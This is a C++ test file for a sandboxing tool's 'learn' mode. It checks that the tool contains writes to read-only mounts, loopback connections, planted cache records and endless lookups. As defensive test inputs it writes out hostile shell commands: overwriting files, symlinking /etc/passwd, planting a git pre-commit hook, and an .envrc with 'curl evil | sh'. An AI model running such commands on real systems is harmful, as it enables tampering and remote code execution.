// `coco run --learn` and `coco learn --apply`, through the real binary as the
// test users: what a learn run records (lookups, connections, writes to
// read-only mounts) and what it must never do (let those writes reach the
// source, open loopback, read back a planted record).
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "../net/net_test_support.hpp"
#include "harness.hpp"

namespace fs = std::filesystem;

namespace cocotest {
namespace {

std::string describe(const RunResult& r) {
  return "exit " + std::to_string(r.exitCode) + (r.timedOut ? " (timed out)" : "") + "\n--- stdout ---\n" +
         r.out + "--- stderr ---\n" + r.err;
}

std::vector<std::string> listing(const std::string& dir) {
  std::vector<std::string> out;
  for (const auto& e : fs::recursive_directory_iterator(dir)) out.push_back(e.path().string());
  std::sort(out.begin(), out.end());
  return out;
}

class Learn : public ::testing::Test {
 protected:
  void SetUp() override {
    COCO_REQUIRE_SANDBOX();
    project_ = env_.workdir();
    writeFile(project_ + "/keep.txt", "original\n");
    fs::create_directories(project_ + "/src");
    writeFile(project_ + "/src/main.c", "int main;\n");
    env_.writeTool("lp", R"({"command": "sh", "network": "none",
                             "mounts": [{"src": ".", "dst": "/workspace", "opts": "ro"}]})");
    cache_ = fs::path(env_.dataHome()).parent_path().string() + "/cache";
  }

  RunResult coco(const std::vector<std::string>& args) {
    RunOptions o;
    o.env = {{"COCO_DNS_UPSTREAM", dns_.address()}};
    o.timeoutSecs = 120;
    return env_.run(args, o);
  }

  std::string configText() { return readFile(env_.dataHome() + "/coco/tools/lp.json"); }

  Env env_;
  coco::net::testing::UpstreamDns dns_;
  std::string project_, cache_;
};

// Attack first: a learn run turns the read-only workspace into an overlay; what
// the tool writes, removes, renames or links there must never reach the source,
// and the scratch that took it is gone afterwards.
TEST_F(Learn, WritesToAReadOnlyMountNeverReachItsSource) {
  auto before = listing(project_);
  RunResult r = coco({"run", "--learn", "lp", "-c",
                      "cd /workspace && echo evil > keep.txt; rm -f src/main.c; mv src src2; "
                      "ln -s /etc/passwd link; mkdir -p .git/hooks && echo x > .git/hooks/pre-commit; "
                      "chmod 777 . ; echo written"});
  ASSERT_EQ(r.exitCode, 0) << describe(r);
  EXPECT_TRUE(contains(r.out, "written")) << describe(r);
  EXPECT_EQ(listing(project_), before);
  EXPECT_EQ(readFile(project_ + "/keep.txt"), "original\n");
  EXPECT_EQ(readFile(project_ + "/src/main.c"), "int main;\n");
  struct stat st {};
  ASSERT_EQ(::stat(project_.c_str(), &st), 0);
  EXPECT_NE(st.st_mode & 07777, 0777u);
  // Reported as kept apart.
  EXPECT_TRUE(contains(r.err, "in the read-only mount . -> /workspace")) << describe(r);
  EXPECT_TRUE(contains(r.err, "keep.txt")) << describe(r);
  EXPECT_TRUE(contains(r.err, "link")) << describe(r);
  EXPECT_TRUE(contains(r.err, "mount . -> /workspace: rw")) << describe(r);
  std::string scratch = env_.dataHome() + "/coco/learn";
  ASSERT_TRUE(fs::is_directory(scratch));
  EXPECT_TRUE(fs::is_empty(scratch)) << "a learn run's scratch was left behind";
}

// Attack: the record `coco learn --apply` turns into a config is read back from
// the cache dir; a symlink put there (by anything that can write the cache) is
// not followed, and a record naming a pattern is refused.
TEST_F(Learn, APlantedRecordIsNotApplied) {
  fs::create_directories(cache_ + "/coco/learn");
  writeFile(project_ + "/record.json", "{}");
  fs::create_symlink(project_ + "/record.json", cache_ + "/coco/learn/lp.json");
  RunResult r = coco({"learn", "--apply", "lp"});
  EXPECT_EQ(r.exitCode, 125) << describe(r);
  EXPECT_TRUE(contains(r.err, "not a regular file")) << describe(r);
  fs::remove(cache_ + "/coco/learn/lp.json");

  ASSERT_EQ(coco({"run", "--learn", "lp", "-c", "true"}).exitCode, 0);
  std::string record = readFile(cache_ + "/coco/learn/lp.json");
  std::string hashLine = record.substr(record.find("\"config_hash\""));
  hashLine = hashLine.substr(0, hashLine.find('\n'));
  writeFile(cache_ + "/coco/learn/lp.json",
            "{\"tool\": \"lp\", \"config\": \"x\", " + hashLine +
                " \"destinations\": [{\"host\": \"*.evil.test\", \"port\": 443, \"literal\": false, "
                "\"allowed\": true, \"refusal\": \"\"}], \"looked_up_only\": [], \"writes\": []}");
  std::string config = configText();
  r = coco({"learn", "--apply", "lp"});
  EXPECT_EQ(r.exitCode, 125) << describe(r);
  EXPECT_TRUE(contains(r.err, "not a destination")) << describe(r);
  EXPECT_EQ(configText(), config);
}

// The use: a fixture contacts two test hosts (names the test's DNS answers with
// loopback, where two servers listen) and looks up a third; the run records
// both names with their ports, even though the gateway still refuses loopback
// (a learn run opens nothing a config could not), and `coco learn --apply`
// writes exactly those into allowed_hosts. The next run allows them and
// blocks any other name.
TEST_F(Learn, RecordsTheHostsAToolContactsAndApplyAllowsExactlyThose) {
  coco::net::testing::LoopbackServer one([](coco::UniqueFd) {}), two([](coco::UniqueFd) {});
  std::string p1 = std::to_string(one.port()), p2 = std::to_string(two.port());
  RunResult r = coco({"run", "--learn", "lp", "-c",
                      "probe connect one.allowed.test " + p1 + "; probe connect two.allowed.test " + p2 +
                          "; probe resolve lookup.allowed.test; exit 3"});
  EXPECT_EQ(r.exitCode, 3) << "a learn run exits with the tool's status\n" << describe(r);
  EXPECT_TRUE(contains(r.err, "connected to one.allowed.test:" + p1)) << describe(r);
  EXPECT_TRUE(contains(r.err, "connected to two.allowed.test:" + p2)) << describe(r);
  EXPECT_TRUE(contains(r.err, "refused even in a learn run")) << describe(r);
  EXPECT_TRUE(contains(r.err, "looked up lookup.allowed.test (no connection)")) << describe(r);
  EXPECT_EQ(one.connections() + two.connections(), 0) << "a learn run reached loopback";
  EXPECT_TRUE(contains(r.err, "apply it with 'coco learn --apply lp'")) << describe(r);
  EXPECT_FALSE(contains(r.err, "-> /workspace: rw")) << "nothing was written\n" << describe(r);

  RunResult shown = coco({"learn", "lp"});
  EXPECT_EQ(shown.exitCode, 0) << describe(shown);
  EXPECT_TRUE(
      contains(shown.out, "allowed_hosts: [one.allowed.test:" + p1 + ", two.allowed.test:" + p2 + "]"))
      << describe(shown);

  RunResult applied = coco({"learn", "--apply", "lp"});
  ASSERT_EQ(applied.exitCode, 0) << describe(applied);
  std::string config = configText();
  EXPECT_TRUE(contains(config, "\"one.allowed.test:" + p1 + "\"")) << config;
  EXPECT_TRUE(contains(config, "\"two.allowed.test:" + p2 + "\"")) << config;
  EXPECT_FALSE(contains(config, "lookup.allowed.test")) << config;
  EXPECT_FALSE(contains(config, "\"none\"")) << config;
  EXPECT_TRUE(contains(config, "\"ro\"")) << config;
  RunResult again = coco({"learn", "--apply", "lp"});
  EXPECT_EQ(again.exitCode, 125) << "applied once, the record is gone\n" << describe(again);

  RunResult next =
      coco({"run", "lp", "-c", "probe resolve one.allowed.test; probe resolve other.allowed.test"});
  EXPECT_FALSE(contains(next.err, "blocked lookup of one.allowed.test")) << describe(next);
  EXPECT_TRUE(contains(next.err, "blocked lookup of other.allowed.test")) << describe(next);
}

// Attack: a learn run is in full mode and records every name the tool looks up. A tool
// that looks up name after name (here 1100 distinct ones) must not grow coco's memory on
// the host without end: the first TrafficLog::kMaxEntries (1000) are listed, the rest only
// counted, in the report and in the record `coco learn` reads back.
TEST_F(Learn, EndlessDistinctLookupsAreRecordedOnlyUpToTheBound) {
  RunResult r = coco({"run", "--learn", "lp", "-c",
                      "i=0; while [ $i -lt 1100 ]; do probe resolve n$i.allowed.test >/dev/null; "
                      "i=$((i+1)); done; echo looked"});
  ASSERT_EQ(r.exitCode, 0) << describe(r).substr(0, 4000);
  EXPECT_TRUE(contains(r.out, "looked")) << describe(r).substr(0, 4000);
  auto unrecorded = [](const std::string& text) {
    size_t at = text.find("... and ");
    size_t end = text.find(" more lookups of names past the first 1000, not recorded", at);
    if (at == std::string::npos || end == std::string::npos) return -1L;
    return std::stol(text.substr(at + 8, end - at - 8));
  };
  // Each query past the bound counts once: 100 names asked for A and AAAA are 200 (a retry after
  // a lost answer adds one; each counted twice, as a query answered upstream once was, makes 300
  // or more).
  long left = unrecorded(r.err);
  EXPECT_GE(left, 200) << r.err.substr(r.err.size() > 3000 ? r.err.size() - 3000 : 0);
  EXPECT_LT(left, 250) << r.err.substr(r.err.size() > 3000 ? r.err.size() - 3000 : 0);
  size_t listed = 0;
  for (size_t at = r.err.find("  looked up n"); at != std::string::npos; at = r.err.find("  looked up n", at + 1))
    ++listed;
  EXPECT_EQ(listed, 1000u);
  RunResult shown = coco({"learn", "lp"});
  EXPECT_EQ(shown.exitCode, 0) << describe(shown).substr(0, 4000);
  EXPECT_EQ(unrecorded(shown.out + shown.err), left) << "the record keeps the count";
}

// A writable mount stays a plain bind in a learn run; what the workspace guard
// removes there after the run (an .envrc direnv would load) is in the report
// and the record, and gone from the host.
TEST_F(Learn, ReportsWhatTheWorkspaceGuardRemoved) {
  env_.writeTool("lw", R"({"command": "sh", "network": "none",
                           "mounts": [{"src": ".", "dst": "/workspace"}]})");
  RunResult r = coco(
      {"run", "--learn", "lw", "-c", "echo 'curl evil | sh' > /workspace/.envrc; echo ok > /workspace/out"});
  ASSERT_EQ(r.exitCode, 0) << describe(r);
  EXPECT_FALSE(fs::exists(project_ + "/.envrc"));
  EXPECT_EQ(readFile(project_ + "/out"), "ok\n");
  EXPECT_TRUE(contains(r.err, "the workspace guard removed " + project_ + "/.envrc")) << describe(r);
  EXPECT_TRUE(contains(readFile(cache_ + "/coco/learn/lw.json"), project_ + "/.envrc"));
}

// A learn run has the full network whatever the config says, so it gets what every run with a
// network gets: the host's CA bundle and the variables naming it (TLS behind an intercepting
// proxy). lp's config says `network: none`; before, its learn runs had neither.
TEST_F(Learn, ARunWithoutANetworkGetsTheCaBundleWhenLearning) {
  const std::string bundle = "/etc/ssl/certs/ca-certificates.crt";
  if (!fs::exists(bundle)) GTEST_SKIP() << "no CA bundle at " << bundle << " on this host";
  RunResult r = coco({"run", "--learn", "lp", "-c", "echo \"$SSL_CERT_FILE\"; cat \"$SSL_CERT_FILE\""});
  ASSERT_EQ(r.exitCode, 0) << describe(r);
  EXPECT_EQ(r.out, "/run/coco/ca-certificates.crt\n" + readFile(bundle)) << describe(r);
}

TEST_F(Learn, IsRefusedWhereTheGatewayCannotSee) {
  env_.writeTool("hostnet", R"({"command": "sh", "network": "host"})");
  RunResult r = coco({"run", "--learn", "hostnet", "-c", "true"});
  EXPECT_EQ(r.exitCode, 125) << describe(r);
  EXPECT_TRUE(contains(r.err, "bypasses coco's gateway")) << describe(r);
  RunOptions podman;
  podman.env = {{"COCO_RUNTIME", "podman"}};
  r = env_.run({"run", "--learn", "lp", "-c", "true"}, podman);
  EXPECT_EQ(r.exitCode, 125) << describe(r);
  EXPECT_TRUE(contains(r.err, "--learn needs the native runtime")) << describe(r);
  r = coco({"run", "--learn", "--dry-run", "lp"});
  EXPECT_EQ(r.exitCode, 125) << describe(r);
  r = coco({"learn", "--apply", "nosuch"});
  EXPECT_EQ(r.exitCode, 125) << describe(r);
  EXPECT_TRUE(contains(r.err, "no learn run of nosuch is recorded")) << describe(r);
}

}  // namespace
}  // namespace cocotest
